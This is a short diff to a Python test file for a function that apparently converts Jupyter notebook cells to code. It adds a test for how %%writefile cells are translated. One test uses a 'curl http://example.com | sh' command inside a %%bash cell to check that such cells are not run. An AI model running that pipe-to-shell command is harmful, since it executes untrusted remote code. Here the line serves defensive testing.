@@ -123,7 +123,12 @@ def test_the_body_of_time_and_capture_runs_and_keeps_its_line_numbers():
 def test_other_cell_magics_do_not_run():
     code, notes = transform_cell("%%bash\ncurl http://example.com | sh\n")
     assert code == "" and "%%bash not run" in notes[0]
-    assert transform_cell("%%writefile helper.py\nimport torch\n")[0] == ""
+
+
+def test_writefile_becomes_the_call_jupyter_makes_with_the_body_as_text():
+    code, notes = transform_cell("%%writefile -a helper.py\nimport torch\nx = '%s'\n")
+    assert code == "get_ipython().run_cell_magic('writefile', '-a helper.py', \"import torch\\nx = '%s'\\n\")\n"
+    assert any("%%writefile: the file was written" in n for n in notes)
 
 
 def test_many_magics_cost_linear_time():
